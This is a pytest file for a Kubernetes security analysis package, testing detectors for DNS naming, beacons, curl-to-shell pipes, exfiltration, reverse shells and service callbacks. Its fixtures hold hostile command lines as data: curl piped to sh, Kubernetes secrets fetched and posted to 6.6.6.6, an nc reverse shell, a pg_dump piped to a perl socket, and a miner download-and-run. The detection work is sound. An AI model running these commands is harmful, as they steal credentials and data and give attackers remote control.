"""The endpoint helpers on a few rows of plain polars data: names from DNS answers, beacons,
``fetch | sh`` pipes, exfiltration by a file the line wrote, a service's callbacks."""

from __future__ import annotations

import polars as pl

from kernelsec_nb.findings import _endpoints as X
from kernelsec_nb.findings import graph as G

S = 1_000_000_000
MS = 1_000_000


def _answers():
    f = pl.DataFrame({
        "time_ns": [1 * S, 2 * S, 3 * S, 9 * S],
        "src_namespace": ["a", "kube-system", "kube-system", "kube-system"],
        "src_pod": ["web", "dns-0", "dns-0", "dns-0"],
        "dst_namespace": ["kube-system", "a", "b", "a"],
        "dst_pod": ["dns-0", "web", "job", "web"],
        "dns_query": ["old.example.", "old.example.", "other.example.", "new.example."],
        "dns_ips": [None, ["6.6.6.6"], ["6.6.6.6"], ["6.6.6.6"]],
        "is_reply": [False, True, True, True]})
    return X.dns_answers(f)


def test_an_address_is_named_by_its_pods_latest_answer_before_the_connection():
    a = _answers()
    assert X.name_for(a, "a", "web", "6.6.6.6", 5 * S) == "old.example"  # not the later answer
    assert X.name_for(a, "a", "web", "6.6.6.6", 10 * S) == "new.example"
    assert X.name_for(a, "c", "other", "6.6.6.6", 1 * S) == "new.example"  # no answer of its own: any pod's
    assert X.name_for(a, "a", "web", "7.7.7.7", 5 * S) is None


def test_no_dns_columns_no_answers():
    assert X.dns_answers(pl.DataFrame({"time_ns": [1], "dst_ip": ["6.6.6.6"]})).height == 0


def _flows(times, flags):
    n = len(times)
    return pl.DataFrame({"exec_id": ["sh"] * n, "dst_ip": ["6.6.6.6"] * n, "dst_port": [443] * n,
                         "time_ns": times, "tcp_flags": flags, "is_reply": [False] * n})


def test_a_line_calling_one_address_again_and_again_is_a_beacon():
    f = _flows([0, 300 * MS, 20 * S, 20 * S + 300 * MS, 40 * S, 40 * S + 200 * MS],
               ["SYN", "ACK,FIN", "SYN", "ACK,FIN", "SYN", "ACK,FIN"])
    assert X.beacon(f, ["sh"], "6.6.6.6", 443, 3, 5 * S)
    assert not X.beacon(f, ["other"], "6.6.6.6", 443, 3, 5 * S)
    # one download: its packets are one connection, however many flows
    one = _flows([0, 1 * MS, 2 * MS, 300 * MS], ["SYN", "ACK", "ACK,PSH", "ACK,FIN"])
    assert not X.beacon(one, ["sh"], "6.6.6.6", 443, 3, 5 * S)


def _info(rows):
    return {r[0]: {"parent_exec_id": r[1], "binary": r[2], "args": r[3], "start_ns": r[4]} for r in rows}


def test_a_fetcher_feeding_a_sibling_interpreter_is_a_download():
    info = _info([("top", None, "/bin/sh", "-c curl -s http://x/s|sh", 0),
                  ("curl", "top", "/usr/bin/curl", "-s http://x/s", 2 * MS),
                  ("sh", "top", "/bin/sh", None, 3 * MS)])
    assert X.fetch_pipe("curl", list(info), info, 2 * S)
    # the same fetch into a filter, or a shell given a script, or far apart in time: no pipe into a shell
    info["sh"]["binary"] = "/usr/bin/jq"
    assert not X.fetch_pipe("curl", list(info), info, 2 * S)
    info["sh"].update(binary="/bin/sh", args="/opt/run.sh")
    assert not X.fetch_pipe("curl", list(info), info, 2 * S)
    info["sh"].update(args=None, start_ns=60 * S)
    assert not X.fetch_pipe("curl", list(info), info, 2 * S)


def _edges(rows):
    return pl.DataFrame([dict(zip(G.EDGE_SCHEMA, r, strict=True)) for r in rows], schema=G.EDGE_SCHEMA)


def test_a_process_sending_out_a_file_its_line_wrote_is_exfiltration():
    info = _info([("sh", None, "/bin/sh", "-c …", 0),
                  ("tar", "sh", "/bin/tar", "czf /tmp/c.tgz /etc/secret", 1 * MS),
                  ("up", "sh", "/usr/bin/up", "cp /tmp/c.tgz s3://b/", 30 * MS),
                  ("up2", "sh", "/usr/bin/up", "cp /srv/media.mp4 s3://b/", 40 * MS)])
    e = _edges([("proc:tar", "file:m/web:/tmp/c.tgz", G.WRITE, 2 * MS, "wrote /tmp/c.tgz", None),
                ("proc:up", "ext:52.0.0.1:443", G.CONNECT, 35 * MS, "", None),
                ("proc:up2", "ext:52.0.0.1:443", G.CONNECT, 45 * MS, "", None)])
    assert X.exfil_senders(list(info), info, e, G.WRITE, G.CONNECT) == {"up"}
    # a file written on the host (node scope) is named by its path too
    e2 = e.with_columns(pl.col("dst").str.replace("file:m/web:", "file:node:n1:"))
    assert X.exfil_senders(list(info), info, e2, G.WRITE, G.CONNECT) == {"up"}
    # a file written by a process outside the line does not count
    assert X.exfil_senders(["sh", "up", "up2"], info, e, G.WRITE, G.CONNECT) == set()


def test_a_file_another_replica_wrote_at_the_same_path_is_not_what_a_download_sent_out():
    # two replicas of one image: the second's curl -o names the path the first's curl wrote
    info = _info([("c1", None, "/usr/bin/curl", "-o /b/helper https://x/h", 0),
                  ("c2", None, "/usr/bin/curl", "-o /b/helper https://x/h", 9 * S)])
    info["c1"].update(namespace="pay", pod="rec-a")
    info["c2"].update(namespace="pay", pod="rec-b")
    e = _edges([("proc:c1", "file:pay/rec-a:/b/helper", G.WRITE, 1 * S, "wrote /b/helper", None),
                ("proc:c1", "ext:193.0.2.1:443", G.CONNECT, 10 * MS, "", None),
                ("proc:c2", "file:pay/rec-b:/b/helper", G.WRITE, 10 * S, "wrote /b/helper", None),
                ("proc:c2", "ext:193.0.2.1:443", G.CONNECT, 9 * S + 10 * MS, "", None)])
    assert X.exfil_senders(["c1", "c2"], info, e, G.WRITE, G.CONNECT) == set()


def test_a_services_new_destinations_just_before_the_entry_are_its_callback_and_download():
    e = _edges([("proc:jvm", "ext:52.0.0.1:443", G.CONNECT, 1 * S, "", None),  # its usual, all day
                ("proc:jvm", "ext:6.6.6.6:1389", G.CONNECT, 100 * S, "", None),
                ("proc:jvm", "ext:6.6.6.6:8000", G.CONNECT, 100 * S + 60 * MS, "", None)])
    got = X.service_callbacks("jvm", 100 * S + 300 * MS, e, 2 * S, G.CONNECT)
    assert [(d, r) for d, _, r in got] == [("ext:6.6.6.6:1389", "callback"), ("ext:6.6.6.6:8000", "download")]
    assert X.service_callbacks("jvm", 200 * S, e, 2 * S, G.CONNECT) == []
    assert X.service_callbacks(None, 200 * S, e, 2 * S, G.CONNECT) == []


def _pipe(*members, children=()):
    """``sh`` running ``members`` (binary, args, pid) as one pipeline, 1 ms apart; ``children``
    (exec id, parent, start) below them."""
    info = {"sh": {"exec_id": "sh", "parent_exec_id": None, "binary": "/bin/bash", "args": "", "pid": 10,
                   "start_ns": 0}}
    for i, (b, a, pid) in enumerate(members):
        info[b] = {"exec_id": b, "parent_exec_id": "sh", "binary": "/usr/bin/" + b, "args": a, "pid": pid,
                   "start_ns": S + i * MS}
    for x, p, t in children:
        info[x] = {"exec_id": x, "parent_exec_id": p, "binary": "/bin/" + x, "args": "", "pid": 99, "start_ns": t}
    return info


def test_the_end_of_a_pipeline_that_fed_it_is_exfiltration():
    """``pg_dump | gzip | perl -MIO::Socket …``: perl connected out, its earlier siblings produced
    what it sent; not so for the pipeline's first member (``curl … | sh``), a pipeline that pipes
    a shell out (``cat f | sh -i | nc``: a reverse shell), one whose member is driven from the
    connection (a child after it), or one whose member itself fetched from outside (a relay)."""
    info = _pipe(("pg_dump", "-Fc shop", 21), ("gzip", "-1", 22), ("perl", "-e 'IO::Socket …'", 23))
    ids = list(info)
    assert X.pipe_sink("perl", 2 * S, ids, info, 2 * S, {"perl"})
    assert not X.pipe_sink("pg_dump", 2 * S, ids, info, 2 * S, {"pg_dump"})  # the first member sent nothing it got
    # exec order may differ from fork order: the pid says which came first
    swapped = {**info, "perl": {**info["perl"], "start_ns": S - MS}}
    assert X.pipe_sink("perl", 2 * S, ids, swapped, 2 * S, {"perl"})
    shell = _pipe(("cat", "/tmp/f", 21), ("sh", "-i", 22), ("nc", "6.6.6.6 443", 23))
    assert not X.pipe_sink("nc", 2 * S, list(shell), shell, 2 * S, {"nc"})
    driven = _pipe(("tar", "c /data", 21), ("nc", "6.6.6.6 443", 22), children=[("id", "tar", 3 * S)])
    assert not X.pipe_sink("nc", 2 * S, list(driven), driven, 2 * S, {"nc"})
    relay = _pipe(("curl", "-s https://x/a", 21), ("nc", "6.6.6.6 443", 22))
    assert not X.pipe_sink("nc", 2 * S, list(relay), relay, 2 * S, {"nc", "curl"})
    assert X.pipe_sink("nc", 2 * S, list(relay), relay, 2 * S, {"nc"})  # the same shape reading locally
    far = _pipe(("tar", "c /data", 21), ("nc", "6.6.6.6 443", 22))
    assert not X.pipe_sink("nc", 2 * S, list(far), far, MS // 2, {"nc"})  # not started together: no pipeline


def test_a_sequence_of_commands_is_no_pipeline():
    """``curl -o x && chmod +x x && ./x``: started together under one shell, but each ended before
    the next began — ``./x``'s connection carries nothing they produced."""
    info = _pipe(("curl", "-so /tmp/x https://x/a", 21), ("chmod", "+x /tmp/x", 22), ("x", "-o pool:443", 23))
    info["curl"]["exit_ns"] = info["chmod"]["start_ns"] - 1
    info["chmod"]["exit_ns"] = info["x"]["start_ns"] - 1
    assert not X.pipe_sink("x", 2 * S, list(info), info, 2 * S, {"x"})
    info["chmod"]["exit_ns"] = None  # still running (no exit seen): a pipeline's member
    assert X.pipe_sink("x", 2 * S, list(info), info, 2 * S, {"x"})


def test_an_upload_naming_the_file_after_at_or_equals_sends_it_out():
    """``curl --data-binary @/tmp/s.json`` (and ``-F f=@…``, ``--upload-file=…``) names the file
    the line wrote; a longer path that merely ends the same way does not."""
    info = _info([("sh", None, "/bin/sh", "-c …", 0),
                  ("get", "sh", "/usr/bin/curl", "-s https://k8s/api/v1/secrets -o /tmp/s.json", 1 * MS),
                  ("post", "sh", "/usr/bin/curl", "-s -X POST --data-binary @/tmp/s.json http://6.6.6.6:9001/", 30 * MS),
                  ("form", "sh", "/usr/bin/curl", "-F f=@/tmp/s.json http://6.6.6.6/", 40 * MS),
                  ("other", "sh", "/usr/bin/curl", "--data-binary @/x/tmp/s.json http://6.6.6.6/", 50 * MS)])
    e = _edges([("proc:get", "file:m/web:/tmp/s.json", G.WRITE, 2 * MS, "wrote /tmp/s.json", None),
                *[(f"proc:{x}", "ext:6.6.6.6:9001", G.CONNECT, t * MS, "", None)
                  for x, t in (("post", 35), ("form", 45), ("other", 55))]])
    assert X.exfil_senders(list(info), info, e, G.WRITE, G.CONNECT) == {"post", "form"}


def test_a_manifest_sent_to_the_api_server_is_no_exfiltration():
    """``kubectl create -f`` a file its line wrote deploys it: the API server is no outside address
    the data left for.  The same file sent elsewhere still is."""
    from kernelsec_nb.findings._api_acts import API_SERVER, API_SERVER_NODE

    info = _info([("sh", None, "/bin/bash", "/tmp/setup.sh", 0),
                  ("w", "sh", "/bin/sh", "-c cat > /tmp/.cj.yaml", 1 * MS),
                  ("k", "sh", "/usr/local/bin/kubectl", "-n apps create -f /tmp/.cj.yaml", 30 * MS)])
    rows = [("proc:w", "file:ci/run-1:/tmp/.cj.yaml", G.WRITE, 2 * MS, "wrote /tmp/.cj.yaml", None),
            ("proc:k", "ext:172.18.0.3:6443", G.CONNECT, 35 * MS, "", None),
            ("proc:k", API_SERVER_NODE, API_SERVER, 35 * MS, "called the Kubernetes API server", None)]
    assert X.exfil_senders(list(info), info, _edges(rows), G.WRITE, G.CONNECT, API_SERVER) == set()
    # without the api_server edge (or elsewhere, on another port) it stays exfiltration
    assert X.exfil_senders(list(info), info, _edges(rows[:2]), G.WRITE, G.CONNECT, API_SERVER) == {"k"}
    out = _edges([rows[0], ("proc:k", "ext:45.9.1.1:8443", G.CONNECT, 35 * MS, "", None), rows[2]])
    assert X.exfil_senders(list(info), info, out, G.WRITE, G.CONNECT, API_SERVER) == {"k"}


def test_a_line_whose_source_writes_no_exits_is_no_pipeline():
    """Inspektor Gadget writes no exit times: ``wget -O /tmp/lc … ; chmod +x /tmp/lc ; /tmp/lc -o pool``
    on a node whose processes' exits the capture has none of (``node_exits`` false) — which ran
    together is unknown, so the miner's connection is no pipeline's end (no exfiltration); where
    exits are recorded, one not seen yet is a member still running."""
    info = _pipe(("wget", "-qO /tmp/lc http://x/lc", 21), ("chmod", "+x /tmp/lc", 22), ("lc", "-o pool:3333", 23))
    assert X.pipe_sink("lc", 2 * S, list(info), info, 2 * S, {"lc"})  # exits unknown: still running
    blind = {x: {**r, "node_exits": False} for x, r in info.items()}
    assert not X.pipe_sink("lc", 2 * S, list(blind), blind, 2 * S, {"lc"})


def test_a_fetch_whose_file_an_interpreter_then_runs_is_a_download():
    """``curl -sL http://x/setup.sh -o /tmp/setup.sh`` then ``bash /tmp/setup.sh``: no hook saw the
    write (Inspektor Gadget), but the later interpreter ran the path the fetch named — a download,
    not a C2, though the fetcher's exit is unknown.  A later ``rm`` of the path is no run."""
    from kernelsec_nb.findings._incident import _role
    from kernelsec_nb.findings.engine import DEFAULT

    info = _info([("sh", None, "/bin/sh", "-c job", 0),
                  ("get", "sh", "/usr/bin/curl", "-sL http://6.6.6.6/setup.sh -o /tmp/setup.sh", 1 * MS),
                  ("run", "sh", "/bin/bash", "/tmp/setup.sh", 900 * MS)])
    edge = G.empty_edges()
    assert _role("get", 2 * MS, list(info), set(info), info, edge, DEFAULT) == "download"
    info["run"] = {**info["run"], "binary": "/bin/rm", "args": "-f /tmp/setup.sh"}
    # no download then; and with no exit of the part known (a sensor without exit events) and no
    # later connection of the fetcher, nothing says it kept running: no c2 either
    assert _role("get", 2 * MS, list(info), set(info), info, edge, DEFAULT) == "unknown"
    assert X.interpreted({"-o", "/tmp/setup.sh"}, [{"binary": "/usr/bin/python3", "args": "-u /tmp/setup.sh"}])
